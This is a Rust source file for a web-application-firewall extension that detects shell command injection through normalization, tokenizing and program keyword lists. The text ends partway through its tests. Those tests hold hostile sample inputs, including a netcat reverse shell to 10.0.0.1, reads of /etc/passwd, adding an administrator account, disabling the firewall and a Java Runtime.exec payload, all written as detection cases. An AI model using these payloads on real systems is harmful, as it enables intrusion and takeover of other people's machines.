//! `@detectCmdi` (wafer extension): shell command injection, by tokenizing the value the way
//! a POSIX shell or `cmd.exe` would and looking for a known program in command position.
//!
//! Normalization first undoes the obfuscations a shell ignores: empty quotes (`c''at`,
//! `c""at`), quotes around a word piece (`c'a't`), backslashes before ordinary characters
//! (`c\at`), `$IFS`/`${IFS}` and `$IFS$9`-style separators, empty expansions (`$@`, `$*`,
//! `$1`..`$9`) and the caret escapes of `cmd.exe` (`w^h^o^a^m^i`).
//!
//! The grammar: a value is a sequence of words and operators. Operators are `;`, `|`, `||`,
//! `&`, `&&`, newline, `` ` `` and `$(`/`)` and `<(`, `>(`. A word is in command position at
//! the start of the value or after an operator. The value is an injection when a program
//! of [`PROGRAMS`] (its base name: `/usr/bin/id` is `id`) is in command position and
//! - it follows a separator or substitution (not at the start of the value), and is followed
//!   by the end, another operator, or an argument that looks like a shell argument (an
//!   option `-x`, a path, a variable, a number, an IP, a redirection), or is a program no
//!   English text contains ([`UNAMBIGUOUS`]); or
//! - it is at the start of the value, given as an absolute path (`/bin/cat /etc/passwd`), or
//!   is unambiguous and followed by a shell argument (`nc -e /bin/sh 10.0.0.1 4444`).
//!
//! Also an injection on its own: a `${...}` expansion with a substring or default operator
//! (`${x:0:1}`, `${PATH:0:1}`), and `$(` or a back-quoted word that holds a program.

/// Programs that commonly follow an injection.
const PROGRAMS: &[&str] = &[
    "id", "whoami", "uname", "cat", "ls", "dir", "pwd", "echo", "ping", "sleep", "wget", "curl", "nc", "ncat", "netcat", "bash", "sh", "zsh", "ksh", "dash", "csh", "tcsh", "python", "python2", "python3", "perl", "ruby", "php", "node", "lua", "nslookup", "dig", "host", "ifconfig", "ipconfig", "netstat", "ps", "kill", "killall", "chmod", "chown", "rm", "mv", "cp", "touch", "mkdir", "head", "tail", "more", "less", "grep", "find", "awk", "sed", "xargs", "env", "printenv", "export", "set", "type", "systeminfo", "tasklist", "net", "powershell", "pwsh", "cmd", "certutil", "bitsadmin", "whoami.exe", "cmd.exe", "powershell.exe", "telnet", "ssh", "scp", "ftp", "tftp", "base64", "xxd", "od", "hexdump", "uptime", "hostname", "w", "who", "last", "passwd", "sudo", "su", "crontab", "nohup", "timeout", "eval", "exec", "sort", "uniq", "wc", "tac", "nl", "rev", "vi", "vim", "nano", "dd", "tar", "zip", "unzip", "gzip", "openssl", "socat", "mkfifo", "mknod", "useradd", "usermod", "shutdown", "reboot", "halt", "sysctl", "dmesg", "lsof", "arp", "route", "traceroute", "tracert", "nmap", "java", "gcc", "cc", "make", "mail", "sendmail", "file", "stat", "readlink", "realpath", "basename", "dirname", "true", "false", "test", "expr", "seq", "yes", "time", "date", "cal", "df", "du", "free", "top", "mount", "lsblk", "fdisk", "reg", "wmic", "regsvr32", "rundll32", "mshta", "cscript", "wscript", "start", "call", "copy", "del", "ver", "vol", "query", "schtasks", "sc", "which", "sysinfo", "whereis", "locate", "getent", "net.exe", "nbtstat", "nltest", "dsquery", "icacls", "attrib", "findstr", "more.com", "dig", "id.exe", "netsh",
    "ansible", "ansible-playbook", "ansible-config", "ansible-vault", "ansible-galaxy", "ansible-inventory", "chef-client", "chef-run", "chef-vault", "chef-solo", "knife", "cscli", "kubectl", "docker", "podman", "terraform", "helm", "nice", "command", "builtin", "strace", "gdb", "busybox", "rsync", "wsl", "bcdedit", "vssadmin", "certreq", "msiexec", "forfiles",
];

/// Words that run the command after them (`time curl ...`, `sudo id`, `nohup nc ...`): the
/// word after one is in command position.
const PREFIXES: &[&str] = &["time", "sudo", "nohup", "nice", "exec", "env", "command", "builtin", "xargs", "strace", "busybox", "timeout", "doas"];

/// Programs no English sentence contains as a word: their presence after a separator is
/// enough.
const UNAMBIGUOUS: &[&str] = &[
    "whoami", "uname", "ifconfig", "ipconfig", "netstat", "wget", "curl", "nc", "ncat", "netcat", "bash", "sh", "zsh", "ksh", "nslookup", "systeminfo", "tasklist", "powershell", "pwsh", "certutil", "bitsadmin", "whoami.exe", "cmd.exe", "powershell.exe", "xxd", "hexdump", "printenv", "crontab", "nohup", "socat", "mkfifo", "useradd", "usermod", "sysctl", "dmesg", "lsof", "nmap", "sendmail", "readlink", "lsblk", "fdisk", "wmic", "regsvr32", "rundll32", "mshta", "cscript", "wscript", "schtasks", "python", "python2", "python3", "perl", "php", "chmod", "chown", "killall", "tftp", "openssl", "traceroute", "tracert", "ls", "pwd", "id", "dir", "cmd", "ping", "uptime", "hostname", "passwd", "sudo", "env", "xargs", "awk", "sed", "grep", "which", "sysinfo", "whereis", "getent", "nbtstat", "nltest", "dsquery", "icacls", "findstr", "netsh",
    "ansible", "ansible-playbook", "ansible-config", "ansible-vault", "ansible-galaxy", "ansible-inventory", "chef-client", "chef-run", "chef-vault", "chef-solo", "cscli", "kubectl", "terraform", "strace", "busybox", "bcdedit", "vssadmin", "certreq", "msiexec", "forfiles",
];

#[derive(Debug, Clone, PartialEq, Eq)]
enum Tok {
    Word(String),
    /// `;`, `|`, `&`, newline, `&&`, `||`.
    Sep,
    /// `` ` ``, `$(`, `<(`, `>(`: what follows is a command.
    Subst,
    /// A bare `(` or `{`: a subshell, a group or brace expansion, or text in parentheses.
    Group,
    Close,
    Redirect,
}

/// Undoes the obfuscations a shell ignores.
fn normalize(v: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(v.len());
    let mut i = 0;
    while let Some(&b) = v.get(i) {
        match b {
            // Empty quotes, and quotes glued to letters on both sides (`c'a't`).
            b'\'' | b'"' => {
                let prev_word = out.last().is_some_and(|c: &u8| c.is_ascii_alphanumeric() || *c == b'/');
                let next_word = v.get(i + 1).is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'\'' || *c == b'"');
                if v.get(i + 1) == Some(&b) || (prev_word && next_word) {
                    i += if v.get(i + 1) == Some(&b) { 2 } else { 1 };
                    continue;
                }
                out.push(b);
            }
            // `\n`, `\r` and `\t` written out: line breaks and blanks once decoded.
            b'\\' if matches!(v.get(i + 1), Some(b'n' | b'r')) => {
                out.push(b'\n');
                i += 2;
                continue;
            }
            b'\\' if v.get(i + 1) == Some(&b't') => {
                out.push(b' ');
                i += 2;
                continue;
            }
            b'\\' => match v.get(i + 1) {
                Some(c) if c.is_ascii_alphanumeric() || *c == b'/' => {
                    i += 1;
                    continue;
                }
                _ => out.push(b),
            },
            // A bracket glob of one character inside a word (`/bi[n]/bash`).
            b'[' if out.last().is_some_and(u8::is_ascii_alphanumeric) && v.get(i + 1).is_some_and(u8::is_ascii_alphanumeric) && v.get(i + 2) == Some(&b']') => {
                out.extend(v.get(i + 1));
                i += 3;
                continue;
            }
            b'^' if out.last().is_some_and(u8::is_ascii_alphanumeric) && v.get(i + 1).is_some_and(u8::is_ascii_alphanumeric) => {}
            b'$' => {
                let rest = v.get(i + 1..).unwrap_or_default();
                if rest.starts_with(b"{IFS}") {
                    out.push(b' ');
                    i += 6;
                    continue;
                }
                if rest.starts_with(b"IFS") {
                    out.push(b' ');
                    i += 4;
                    // `$IFS$9`
                    if v.get(i) == Some(&b'$') && v.get(i + 1).is_some_and(u8::is_ascii_digit) {
                        i += 2;
                    }
                    continue;
                }
                if matches!(rest.first(), Some(b'@' | b'*' | b'?' | b'1'..=b'9')) && out.last().is_some_and(u8::is_ascii_alphanumeric) {
                    i += 2;
                    continue;
                }
                out.push(b);
            }
            _ => out.push(b),
        }
        i += 1;
    }
    out
}

fn tokenize(v: &[u8]) -> Vec<Tok> {
    let s = String::from_utf8_lossy(v);
    let b = s.as_bytes();
    // A value without blanks whose `+` are a form encoding's spaces (`&&+|+dir`).
    let plus_blank = b.contains(&b'+') && !b.iter().any(|&c| c == b' ' || c == b'\t');
    let mut toks = Vec::new();
    let mut i = 0;
    let mut word = String::new();
    let flush = |word: &mut String, toks: &mut Vec<Tok>| {
        if !word.is_empty() {
            toks.push(Tok::Word(std::mem::take(word)));
        }
    };
    while let Some(&c) = b.get(i) {
        match c {
            b';' | b'|' | b'&' | b'\n' | b'\r' => {
                flush(&mut word, &mut toks);
                if toks.last() != Some(&Tok::Sep) {
                    toks.push(Tok::Sep);
                }
            }
            b'`' => {
                flush(&mut word, &mut toks);
                toks.push(Tok::Subst);
            }
            b'$' | b'<' | b'>' if b.get(i + 1) == Some(&b'(') => {
                flush(&mut word, &mut toks);
                toks.push(Tok::Subst);
                i += 1;
            }
            b'(' | b'{' => {
                flush(&mut word, &mut toks);
                toks.push(Tok::Group);
            }
            b')' | b'}' => {
                flush(&mut word, &mut toks);
                toks.push(Tok::Close);
            }
            b'<' | b'>' => {
                flush(&mut word, &mut toks);
                toks.push(Tok::Redirect);
            }
            b' ' | b'\t' | b',' | b'\'' | b'"' => flush(&mut word, &mut toks),
            b'+' if plus_blank || i.checked_sub(1).and_then(|k| b.get(k)).is_some_and(|p| matches!(p, b';' | b'|' | b'&' | b'\n')) || b.get(i + 1).is_some_and(|n| matches!(n, b';' | b'|' | b'&')) => flush(&mut word, &mut toks),
            _ => {
                if let Some(ch) = s.get(i..).and_then(|r| r.chars().next()) {
                    word.push(ch);
                    i += ch.len_utf8();
                    continue;
                }
            }
        }
        i += 1;
    }
    flush(&mut word, &mut toks);
    toks
}

/// Whether `name` is one of [`PROGRAMS`] (a set built once: the word is looked up for every
/// word in command position).
fn is_program(name: &str) -> bool {
    static SET: std::sync::OnceLock<std::collections::HashSet<&'static str>> = std::sync::OnceLock::new();
    SET.get_or_init(|| PROGRAMS.iter().copied().collect()).contains(name)
}

/// The program a word names (`/usr/bin/id` -> `id`, `ID.EXE` -> `id.exe`), when known.
fn program(word: &str) -> Option<(String, bool)> {
    // The base name first: no program's is longer than 16 bytes, so long words (tokens, ids)
    // are not copied.
    let base = word.rsplit(['/', '\\']).next().unwrap_or(word);
    if base.is_empty() || base.len() > 16 {
        return None;
    }
    let base = base.to_ascii_lowercase();
    let name = base.strip_suffix(".exe").unwrap_or(&base);
    if !is_program(name) && !is_program(&base) {
        return None;
    }
    let lower = word.to_ascii_lowercase();
    let absolute = lower.starts_with('/') || lower.get(1..3) == Some(":\\");
    if absolute && !(lower.contains("bin/") || lower.contains("system32")) {
        return None;
    }
    Some((name.to_string(), absolute))
}

/// Whether a word reads as a shell argument rather than as English.
fn shell_arg(word: &str) -> bool {
    let w = word.as_bytes();
    match w.first() {
        Some(b'-') => w.get(1).is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'-'),
        Some(b'/' | b'$' | b'~' | b'.' | b'%') => true,
        Some(c) if c.is_ascii_digit() => true,
        _ => word.contains('/') || word.contains('\\') || word.contains('='),
    }
}

/// `net view`, `net user`, `netsh firewall` ...: the subcommands of Windows' `net` and `netsh`.
fn net_subcommand(name: &str, arg: &str) -> bool {
    name == "net" && matches!(arg, "view" | "user" | "users" | "localgroup" | "group" | "share" | "use" | "session" | "accounts")
        || name == "netsh" && matches!(arg, "firewall" | "advfirewall" | "interface" | "wlan" | "winhttp" | "http" | "portproxy")
}

/// `cmd.exe`'s `for` and `if` statements, whose syntax no text has: `for [/f|/d|/l|/r ...]
/// %x in (...) do`, and `if [/i] [not]` with a `%var%` operand, a `==` comparison, one of the
/// comparison words `equ` `neq` `lss` `leq` `gtr` `geq`, `exist` before a file name, or
/// `errorlevel` before a number.
fn cmd_statement(toks: &[Tok]) -> Option<String> {
    let word = |i: usize| match toks.get(i) {
        Some(Tok::Word(w)) => Some(w.to_ascii_lowercase()),
        _ => None,
    };
    for i in 0..toks.len() {
        // Only `for` and `if` start a statement (checked before the word is copied).
        let Some(Tok::Word(w)) = toks.get(i) else { continue };
        if !w.eq_ignore_ascii_case("for") && !w.eq_ignore_ascii_case("if") {
            continue;
        }
        let w = w.to_ascii_lowercase();
        if i > 0 && !matches!(toks.get(i - 1), Some(Tok::Sep | Tok::Subst | Tok::Group)) {
            continue;
        }
        if w == "for" {
            // Options (`/f`, `/l`) and their quoted text, then the `%x` / `%%x` variable and `in`.
            let mut j = i + 1;
            while word(j).is_some_and(|a| !a.starts_with('%')) && j < i + 6 {
                j += 1;
            }
            let var = word(j).is_some_and(|a| {
                let name = a.strip_prefix("%%").or_else(|| a.strip_prefix('%')).unwrap_or_default();
                !name.is_empty() && name.bytes().all(|c| c.is_ascii_alphabetic())
            });
            if var && word(j + 1).as_deref() == Some("in") && matches!(toks.get(j + 2), Some(Tok::Group)) {
                return Some("for".into());
            }
        }
        if w == "if" {
            let mut j = i + 1;
            let mut switch = false;
            if word(j).as_deref() == Some("/i") {
                switch = true;
                j += 1;
            }
            if word(j).as_deref() == Some("not") {
                j += 1;
            }
            let a = word(j).unwrap_or_default();
            let b = word(j + 1).unwrap_or_default();
            let var = |x: &str| x.len() > 2 && x.starts_with('%') && x.ends_with('%') || x.starts_with("[%");
            let cmp = |x: &str| matches!(x, "equ" | "neq" | "lss" | "leq" | "gtr" | "geq") || x == "==";
            let file = |x: &str| x.contains(['.', '\\', ':', '%']);
            if (switch && !a.is_empty()) || var(&a) || cmp(&b) || a.contains("==")
                || (a == "exist" && file(&b)) || (a == "defined" && var(&format!("%{b}%")) && word(j + 2).is_some_and(|c| program(&c).is_some()))
                || (a == "errorlevel" && !b.is_empty() && b.bytes().all(|c| c.is_ascii_digit()))
            {
                return Some("if".into());
            }
        }
    }
    None
}

/// The injection found, as `program` (or the construct's name).
/// The Java packages whose classes run programs, touch files or sockets, or load code by
/// name: a qualified name in one of them is the core of a Java deserialization or
/// expression-language payload (`java.lang.Runtime`, `java.io.FileOutputStream`).
const JAVA_RUNTIME_PACKAGES: &[&str] = &["java.lang", "java.lang.reflect", "java.io", "java.nio", "java.nio.file", "java.net", "java.rmi", "java.beans", "javax.script", "javax.naming", "javax.management"];

/// A Java qualified class name of the `java.*`/`javax.*` runtime: lower-case package
/// identifiers separated by `.`, starting with `java` or `javax`, then an identifier that
/// starts with a capital (the class). It is an injection when the package is one of
/// [`JAVA_RUNTIME_PACKAGES`], or when a call or a class-loading form follows the name
/// (`(`, `.class`, `::`, `.forName`, `.getRuntime`, ...). `java.util.List` in a sentence
/// passes; `java.util.Scanner(...)` does not.
fn java_runtime_name(value: &[u8]) -> Option<String> {
    let ident = |b: u8| b.is_ascii_alphanumeric() || b == b'_' || b == b'$';
    let at = |k: usize| value.get(k).copied();
    let mut i = 0;
    while i + 5 <= value.len() {
        let before = i.checked_sub(1).and_then(at);
        let at_start = before.is_none_or(|b| !(ident(b) || b == b'.'));
        if !(at_start && value.get(i..).is_some_and(|r| r.starts_with(b"java"))) {
            i += 1;
            continue;
        }
        // The dotted name from i.
        let mut j = i;
        let mut parts: Vec<&[u8]> = Vec::new();
        loop {
            let word = value.get(j..).unwrap_or_default();
            let n = word.iter().take_while(|&&b| ident(b)).count();
            if n == 0 {
                break;
            }
            parts.extend(word.get(..n));
            j += n;
            if at(j) == Some(b'.') && at(j + 1).is_some_and(|b| b.is_ascii_alphabetic()) {
                j += 1;
            } else {
                break;
            }
        }
        let class = parts.iter().position(|p| p.first().is_some_and(u8::is_ascii_uppercase));
        if let Some(c) = class.filter(|&c| c >= 2 && matches!(parts.first(), Some(&b"java") | Some(&b"javax"))) {
            let package_parts = parts.get(..c).unwrap_or_default();
            if package_parts.iter().all(|p| p.iter().all(|&b| b.is_ascii_lowercase() || b.is_ascii_digit())) {
                let package = package_parts.iter().map(|p| String::from_utf8_lossy(p)).collect::<Vec<_>>().join(".");
                let name = format!("{package}.{}", String::from_utf8_lossy(parts.get(c).copied().unwrap_or_default()));
                // What follows the class: a call, a member, `.class`, `::`.
                let member_call = parts.len() > c + 1 || matches!(at(j), Some(b'(') | Some(b':'));
                if JAVA_RUNTIME_PACKAGES.contains(&package.as_str()) || member_call {
                    return Some(name);
                }
            }
        }
        i = j.max(i + 1);
    }
    None
}

/// A word spelled with what a shell drops (`'c'url`, `c""at`, `c\at`, `who$@ami`, `c$?at`,
/// `w^h^o^a^m^i`, `/bi[n]/bash`) inside its letters, that names a program of three letters or
/// more once normalized: text has no such spelling (contractions such as `I'd` name none).
fn obfuscated_program(value: &[u8]) -> Option<String> {
    let boundary = |c: &u8| matches!(c, b' ' | b'\t' | b'\n' | b'\r' | b';' | b'|' | b'&' | b'(' | b')' | b'<' | b'>' | b',' | b'`' | b'{' | b'}' | b'+');
    for raw in value.split(boundary) {
        let mut inside = false;
        for (k, &c) in raw.iter().enumerate() {
            let obf = matches!(c, b'\'' | b'"' | b'\\' | b'^' | b'[') || c == b'$' && matches!(raw.get(k + 1), Some(b'@' | b'?' | b'*'));
            if obf && raw.get(..k).is_some_and(|b| b.last().is_some_and(u8::is_ascii_alphabetic)) && raw.get(k + 1..).is_some_and(|a| a.iter().any(u8::is_ascii_alphabetic)) {
                inside = true;
                break;
            }
        }
        if !inside {
            continue;
        }
        let word: Vec<u8> = normalize(raw).into_iter().filter(|c| !matches!(c, b'\'' | b'"')).collect();
        let word = String::from_utf8_lossy(&word);
        if let Some((name, _)) = program(&word) {
            if name.len() >= 3 && (name != "dir" && name != "set" && name != "type") {
                return Some(name);
            }
        }
    }
    None
}

/// Code that runs a command or dumps the runtime, written in the languages that embed a shell:
/// PHP's `system`, `exec`, `shell_exec`, `passthru`, `popen`, `proc_open`, `pcntl_exec` called
/// with a string or a variable (`system('id')`, `exec($_GET['c'])`) and `phpinfo()`; Perl's
/// `@{[ ... ]}` interpolation; the shell's arithmetic expansion `$(( ))`; a dotted name of Java's process classes with a gadget of the
/// deserialization chains (`runtime.whileclosure`, `ProcessBuilder.evil.forclosure`).
fn code_construct(ns: &str) -> Option<String> {
    let l = ns.to_ascii_lowercase();
    for f in ["system", "exec", "shell_exec", "passthru", "popen", "proc_open", "pcntl_exec", "phpinfo"] {
        let mut from = 0;
        while let Some(p) = l.get(from..).and_then(|r| r.find(f)) {
            let at = from + p;
            from = at + f.len();
            let before = l.as_bytes().get(at.wrapping_sub(1)).copied();
            if at > 0 && before.is_some_and(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'.') {
                continue;
            }
            let rest = l.get(at + f.len()..).unwrap_or_default().trim_start();
            let Some(arg) = rest.strip_prefix('(') else { continue };
            let arg = arg.trim_start();
            if f == "phpinfo" && arg.starts_with(')') || f != "phpinfo" && arg.starts_with(['\'', '"', '$', '`']) {
                return Some(format!("{f}()"));
            }
        }
    }
    if let Some(p) = ns.find("@{[") {
        if ns.get(p..).is_some_and(|r| r.contains("]}")) {
            return Some("perl-interpolation".into());
        }
    }
    if let Some(p) = ns.find("$((") {
        if ns.get(p..).is_some_and(|r| r.contains("))")) {
            return Some("arithmetic-expansion".into());
        }
    }
    None
}

/// A dotted name of Java's process classes (`Runtime`, `ProcessBuilder`) with a gadget class of
/// the deserialization chains (a part ending in `closure`, `transformer` or `factory`:
/// `runtime.whileclosure`, `ProcessBuilder.evil.forclosure`) or under `java`
/// (`java.ProcessBuilder`, `java.evil.runtime`).
fn java_gadget(value: &[u8]) -> Option<String> {
    if !value.contains(&b'.') || !value.windows(7).any(|w| w.eq_ignore_ascii_case(b"runtime") || w.eq_ignore_ascii_case(b"builder")) {
        return None;
    }
    let l = String::from_utf8_lossy(value).to_ascii_lowercase();
    let ident = |c: char| c.is_ascii_alphanumeric() || c == '_' || c == '.';
    for name in l.split(|c: char| !ident(c)).filter(|n| n.contains('.')) {
        let parts: Vec<&str> = name.split('.').collect();
        let process = parts.iter().any(|p| *p == "runtime" || *p == "processbuilder");
        let gadget = parts.iter().any(|p| p.len() > 7 && (p.ends_with("closure") || p.ends_with("transformer") || p.ends_with("factory")));
        if process && (gadget || parts.first() == Some(&"java")) && parts.len() >= 2 && parts.iter().all(|p| !p.is_empty()) {
            return Some("java-gadget".into());
        }
    }
    None
}

pub fn detect_cmdi(value: &[u8]) -> Option<String> {
    if value.len() < 2 {
        return None;
    }
    if let Some(hit) = java_runtime_name(value).or_else(|| java_gadget(value)) {
        return Some(hit);
    }
    // The serialized Java object's header in base64 or hex (any value, also one without shell
    // syntax).
    if [&b"rO0AB"[..], b"KztAAU", b"Cs7QAF"].iter().any(|m| value.windows(m.len()).any(|w| w == *m)) || value.windows(8).any(|w| w.eq_ignore_ascii_case(b"aced0005")) {
        return Some("java-serialized".into());
    }
    // Without shell syntax (operators, quotes, escapes, expansions, paths, comparisons) the
    // tokens are all words, and only the first can be in command position: unless it names a
    // program (or `for`/`if`), there is nothing to tokenize.
    let syntax = |b: u8| matches!(b, b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b'$' | b'(' | b')' | b'{' | b'}' | b'<' | b'>' | b'/' | b'\\' | b'\'' | b'"' | b'^' | b'%' | b'=' | b'[' | b']');
    if !value.iter().any(|&b| syntax(b)) {
        let first = value.split(|&b| matches!(b, b' ' | b'\t' | b',')).find(|w| !w.is_empty()).unwrap_or_default();
        let first = String::from_utf8_lossy(first).to_ascii_lowercase();
        if first != "for" && first != "if" && program(&first).is_none() {
            return None;
        }
    }
    // A URL path: each segment that holds a shell operator or a blank (a command with its
    // arguments: `uname -a`) is also a value of its own (the segments after it are not the
    // command's arguments).
    if value.first() == Some(&b'/') {
        for seg in value.split(|&c| c == b'/') {
            if seg.len() >= 2 && seg.iter().any(|c| matches!(c, b';' | b'|' | b'&' | b'`' | b'\n' | b' ' | b'\t')) && seg.len() < value.len() - 1 {
                if let Some(hit) = detect_cmdi(seg) {
                    return Some(hit);
                }
            }
        }
    }
    // A URL path whose segment starts a `cmd.exe` statement: the statement runs on past the
    // segment (`/files/FOR /L %a IN (1,1,2) DO x/view`, its options written with `/`).
    if value.first() == Some(&b'/') {
        for (p, _) in value.iter().enumerate().filter(|&(_, &c)| c == b'/') {
            let rest = value.get(p + 1..).unwrap_or_default();
            let starts = |w: &[u8]| rest.get(..w.len()).is_some_and(|r| r.eq_ignore_ascii_case(w));
            if starts(b"for ") || starts(b"if ") {
                if let Some(hit) = cmd_statement(&tokenize(&normalize(rest))) {
                    return Some(hit);
                }
            }
        }
    }
    let norm = normalize(value);
    let ns = String::from_utf8_lossy(&norm);
    // `${x:0:1}`-style expansions and `${PATH%%u*}`.
    if let Some(p) = ns.find("${") {
        let inner: String = ns.get(p + 2..).unwrap_or_default().chars().take_while(|&c| c != '}').collect();
        if inner.chars().next().is_some_and(|c| c.is_ascii_alphabetic() || c == '_') && (inner.contains(':') || inner.contains('%') || inner.contains('#') || inner.contains("//")) {
            return Some("${expansion}".into());
        }
    }
    if let Some(hit) = obfuscated_program(value).or_else(|| code_construct(&ns)) {
        return Some(hit);
    }
    let toks = tokenize(&norm);
    if let Some(hit) = cmd_statement(&toks) {
        return Some(hit);
    }
    // Whether each token is in command position: at the start, after an operator, or after a
    // prefix word that is (`time curl ...`, `sudo -- id`).
    let mut cmd_pos = vec![false; toks.len()];
    let mut prefixed = vec![false; toks.len()];
    for i in 0..toks.len() {
        let before = if i == 0 { None } else { toks.get(i - 1) };
        let pos = before.is_none() || matches!(before, Some(Tok::Sep | Tok::Subst | Tok::Group));
        let after_prefix = i > 0 && cmd_pos.get(i - 1) == Some(&true) && matches!(before, Some(Tok::Word(w)) if PREFIXES.iter().any(|p| w.eq_ignore_ascii_case(p)));
        if let Some(c) = cmd_pos.get_mut(i) {
            *c = pos || after_prefix;
        }
        if let Some(c) = prefixed.get_mut(i) {
            *c = after_prefix;
        }
    }
    for (i, t) in toks.iter().enumerate() {
        let Tok::Word(w) = t else { continue };
        let before = if i == 0 { None } else { toks.get(i - 1) };
        let at_start = before.is_none();
        let after_sep = matches!(before, Some(Tok::Sep | Tok::Subst | Tok::Group)) || prefixed.get(i) == Some(&true);
        if !at_start && !after_sep {
            continue;
        }
        let Some((name, absolute)) = program(w) else { continue };
        let next = toks.get(i + 1);
        let unambiguous = UNAMBIGUOUS.contains(&name.as_str());
        let arg_like = match next {
            None => true,
            Some(Tok::Sep | Tok::Subst | Tok::Group | Tok::Close | Tok::Redirect) => true,
            Some(Tok::Word(a)) => shell_arg(a),
        };
        let in_subst = matches!(before, Some(Tok::Subst)) && matches!(toks.get(i + 1..).and_then(|r| r.iter().find(|t| !matches!(t, Tok::Word(_)))), Some(Tok::Close | Tok::Subst));
        let net = matches!(next, Some(Tok::Word(a)) if net_subcommand(&name, &a.to_ascii_lowercase()));
        // Text in parentheses (`hello world (test)`, `(more)`): a program English has as a
        // word only with a shell argument after it.
        if matches!(before, Some(Tok::Group)) && !unambiguous && !matches!(next, Some(Tok::Word(a)) if shell_arg(a)) {
            continue;
        }
        if after_sep && net {
            return Some(name);
        }
        // The command's words (up to the next operator) and what ends them.
        let args: Vec<&str> = toks.get(i + 1..).unwrap_or_default().iter().map_while(|t| if let Tok::Word(a) = t { Some(a.as_str()) } else { None }).collect();
        let ended = matches!(toks.get(i + 1 + args.len()), Some(Tok::Sep));
        // A whole command between two operators (`; cscli alerts list\n`), or a hyphenated
        // program (`ansible-config`), after an operator.
        if after_sep && unambiguous && (name.contains('-') || ended && name.len() >= 4 && !matches!(before, Some(Tok::Group))) {
            return Some(name);
        }
        // Options and arguments (`nc -lvvp 4445 -e /bin/sh`): a program at the start with an
        // option and another shell argument.
        if unambiguous && args.iter().filter(|a| shell_arg(a)).count() >= 2 && args.iter().any(|a| a.len() > 1 && a.starts_with('-') && a.as_bytes().get(1).is_some_and(u8::is_ascii_alphabetic)) {
            return Some(name);
        }
        if after_sep {
            // `;` and `|` before a program and nothing English after it.
            if in_subst || arg_like || (unambiguous && !matches!(next, Some(Tok::Word(a)) if a.chars().all(|c| c.is_alphabetic()) && a.len() > 3)) {
                if name.len() <= 2 && !absolute && !arg_like && !in_subst {
                    continue;
                }
                return Some(name);
            }
        } else if (absolute && (next.is_none() || arg_like)) || (unambiguous && matches!(next, Some(Tok::Word(a)) if shell_arg(a)) && name.len() > 2) {
            return Some(name);
        } else if let Some(Tok::Word(a)) = next {
            // At the start: a program with an argument no text has (`sleep 10`, `which nc`,
            // `type C:\\boot.ini`, `net view`).
            let a_l = a.to_ascii_lowercase();
            let strong = a_l.starts_with('/') && a_l.len() > 1 || a_l.starts_with('%') && a_l.ends_with('%') || (a_l.get(1..2) == Some(":") && a_l.starts_with(|c: char| c.is_ascii_alphabetic()) && a_l.len() > 2) || (a_l.starts_with('-') && a_l.len() > 1 && a_l.len() <= 4 && a_l.bytes().skip(1).all(|c| c.is_ascii_alphabetic()) && toks.len() <= 4);
            let number = a_l.bytes().all(|c| c.is_ascii_digit()) && matches!(name.as_str(), "sleep" | "ping" | "timeout") && toks.len() == 2;
            let prog_arg = matches!(name.as_str(), "which" | "whereis" | "type" | "locate") && program(a).is_some() && toks.len() == 2;
            let net = net_subcommand(&name, &a_l);
            if strong || number || prog_arg || net || (name == "type" && a_l.contains('%')) {
                return Some(name);
            }
        } else if toks.len() == 1 && matches!(name.as_str(), "whoami" | "ifconfig" | "ipconfig" | "systeminfo" | "tasklist" | "netstat" | "uname" | "printenv" | "sysinfo") {
            return Some(name);
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::{detect_cmdi, java_runtime_name};

    #[test]
    fn java_runtime_class_names() {
        for v in ["java.lang.Runtime", "test=java.lang.ProcessBuilder", "{\"java.io.File\": \"test\"}", "x=java.io.BufferedReader", "java.nio.file.Files.readAllBytes(p)", "T(java.lang.Runtime).getRuntime().exec('id')", "Class.forName(\"javax.script.ScriptEngineManager\")", "java.util.Scanner(x)", "java.util.Base64.getDecoder()"] {
            assert!(java_runtime_name(v.as_bytes()).is_some(), "{v}");
            assert!(detect_cmdi(v.as_bytes()).is_some(), "{v}");
        }
        for v in ["I like java.", "java.util.List is an interface", "javascript.Runtime", "java.Lang", "download java.com/Download", "myjava.lang.Runtime", "java.lang", "Java.Lang.Runtime"] {
            assert!(java_runtime_name(v.as_bytes()).is_none(), "{v}");
        }
    }

    fn hit(s: &str) -> bool {
        detect_cmdi(s.as_bytes()).is_some()
    }

    #[test]
    fn separators_before_programs() {
        for s in [";id", "|id|", "a;id;", "127.0.0.1; cat /etc/passwd", "x && whoami", "foo || uname -a", "1\nid", "x|nc -e /bin/sh 10.0.0.1 4444", "& ping -c 10 127.0.0.1 &", ";sleep 5;", "a; ls -la", ";id\\n", "| net view", "&& net localgroup Administrators hacker /ADD", "sleep 10", "which nc", "type C:\\boot.ini", "whoami", "ls -la", "WHOAMI.EXE", "sleep 5", "uname -a"] {
            assert!(hit(s), "{s}");
        }
    }

    #[test]
    fn substitutions_and_absolute_paths() {
        for s in ["`id`", "$(whoami)", "x=$(cat /etc/passwd)", "/bin/cat /etc/passwd", "/usr/bin/id", "<(id)", "{cat,/etc/passwd}"] {
            assert!(hit(s), "{s}");
        }
    }

    #[test]
    fn obfuscations() {
        for s in [";c''at /etc/passwd", ";c\\at /etc/passwd", ";cat$IFS/etc/passwd", ";cat${IFS}/etc/passwd", ";w'h'o'am'i", ";who$@ami", "&w^h^o^a^m^i", "${PATH:0:1}", "; c\"\"at /etc/passwd"] {
            assert!(hit(s), "{s}");
        }
    }

    #[test]
    fn cmd_exe_for_and_if() {
        for s in ["FOR /F \"options\" %a IN (\"text\") DO abc", "for /l %variable in (1,1,2) do command", "for %i in (*) do set LIST= %i", "FOR /F %%G IN ('\"C:\\program Files\\command.exe\"') DO ECHO %%G", "IF   /I   NOT   EXIST   C:\\nonexistent   echo hey", "if /i not  \"a\"==\"b\"  foo", "IF        [%1] EQU []            ECHO Value Missing", "if %n1% gtr %n2% echo x", "IF EXIST filename.txt (", "& if errorlevel 1 echo x", "& netsh firewall set opmode disable"] {
            assert!(hit(s), "{s}");
        }
    }

    #[test]
    fn path_segments() {
        for s in ["/files/; pwd/view", "/files/& sysinfo/view", "/a/| whoami/b", "/files/uname -a/view", "/files/sleep 10/view", "/files/which python/view", "/files/FOR /L %a IN (start,step,end) DO abc/view", "/files/IF /I NOT EXIST C:\\nonexistent echo hey/view"] {
            assert!(hit(s), "{s}");
        }
